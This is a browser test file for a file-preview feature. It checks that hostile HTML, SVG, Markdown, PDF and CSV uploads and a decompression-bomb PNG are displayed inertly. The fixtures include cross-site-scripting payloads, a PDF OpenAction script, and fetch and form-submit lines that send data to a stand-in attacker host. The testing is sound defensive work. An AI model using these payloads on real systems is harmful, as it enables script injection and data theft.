import { makePdf } from '#local/demo/content/pdf.ts';
import { expect, test } from './fixtures.ts';
import { openPreview, seedLookedAt } from './previewed.ts';

const bytes = (content: string | Uint8Array) => Uint8Array.from(Buffer.from(content));

const evil = 'https://evil.example';
const pwn = `window.pwned=1;fetch('${evil}/stolen')`;

const html = `<!doctype html><html><body><h1>Invoice</h1><script>${pwn}</script><img src="${evil}/a.png" onerror="${pwn}"></body></html>`;

const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="${pwn}"><script>${pwn}</script><image href="${evil}/a.png" width="9" height="9"/><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${evil}"/></body></foreignObject><rect width="300" height="200" fill="green"/></svg>`;

const markdown = `# Read me

<script>${pwn}</script>
<img src=x onerror="${pwn}">
<iframe src="${evil}"></iframe>

[click](javascript:${encodeURIComponent(pwn)}) [data](data:text/html,<script>${pwn}</script>)
![pixel](${evil}/pixel.png)
<a href="javascript:${pwn}">raw</a>
`;

/** A document that wants to run a script when it is opened, and to lead elsewhere. */
const pdf = makePdf('Statement', ['Nothing to see.'])
  .toString('latin1')
  .replace(
    '/Type /Catalog',
    `/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${evil}'\\)) >> /AA << /WC << /S /URI /URI (${evil}) >> >>`,
  );

const csv = `name,formula\n"=HYPERLINK(""${evil}"")","<img src=x onerror=${pwn}>"\n`;

test('[case 42] nothing in a file runs, leads or asks elsewhere when it is previewed', async ({
  ada,
}) => {
  const { page } = ada;
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(evil)) asked.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await seedLookedAt(ada, [
    { filename: 'invoice.html', content: bytes(html), mimeType: 'text/html' },
    { filename: 'picture.png', content: bytes(html), mimeType: 'image/png' },
    { filename: 'drawing.svg', content: bytes(svg), mimeType: 'image/svg+xml' },
    { filename: 'readme.md', content: bytes(markdown), mimeType: 'text/markdown' },
    {
      filename: 'statement.pdf',
      content: bytes(Buffer.from(pdf, 'latin1')),
      mimeType: 'application/pdf',
    },
    { filename: 'table.csv', content: bytes(csv), mimeType: 'text/csv' },
  ]);
  await page.goto('/w/personal/files');
  const dialog = await openPreview(page, 'invoice.html');
  await expect(dialog.getByText('<h1>Invoice</h1>')).toBeVisible();
  await page.keyboard.press('Escape');

  // By its bytes it is no picture: its text is shown.
  await openPreview(page, 'picture.png');
  await expect(dialog.getByText('<h1>Invoice</h1>')).toBeVisible();
  await page.keyboard.press('Escape');

  // A drawing is shown as the picture that was made of it, never as itself.
  await openPreview(page, 'drawing.svg');
  const image = dialog.getByRole('img', { name: 'drawing.svg' });
  await expect(image).toBeVisible();
  expect(await image.getAttribute('src')).toMatch(
    /large\.webp\?.*response-content-type=image%2Fwebp/,
  );
  await page.keyboard.press('Escape');

  await openPreview(page, 'readme.md');
  await expect(dialog.getByRole('heading', { name: 'Read me' })).toBeVisible();
  await expect(dialog.getByText(`<script>${pwn}</script>`).first()).toBeVisible();
  await expect(dialog.getByText('Image: pixel')).toBeVisible();
  expect(await dialog.locator('iframe, script, img').count()).toBe(0);
  const links = await dialog
    .getByRole('link')
    .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
  expect(links).toEqual([`${evil}/pixel.png`]);
  await page.keyboard.press('Escape');

  await openPreview(page, 'statement.pdf');
  await expect(dialog.getByText('Nothing to see.')).toBeVisible();
  await expect(dialog.locator('canvas')).toBeVisible();
  await page.keyboard.press('Escape');

  await openPreview(page, 'table.csv');
  await expect(dialog.getByRole('cell', { name: '<img src=x' })).toBeVisible();
  await page.keyboard.press('Escape');

  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(asked).toEqual([]);
  expect(dialogs).toEqual([]);
});

test('[case 46] a bomb among images is said to be none that can be shown, and the browser never gets it', async ({
  ada,
}) => {
  const { page } = ada;
  const { makeBomb } = await import('#server/testing/hostile-images.ts');
  await seedLookedAt(ada, [
    { filename: 'bomb.png', content: makeBomb(30_000, 30_000), mimeType: 'image/png' },
  ]);
  await page.goto('/w/personal/files');
  const dialog = await openPreview(page, 'bomb.png');
  await expect(dialog.getByText(/damaged, or too large to be opened safely/)).toBeVisible();
  await expect(dialog.getByRole('img')).toHaveCount(0);
});
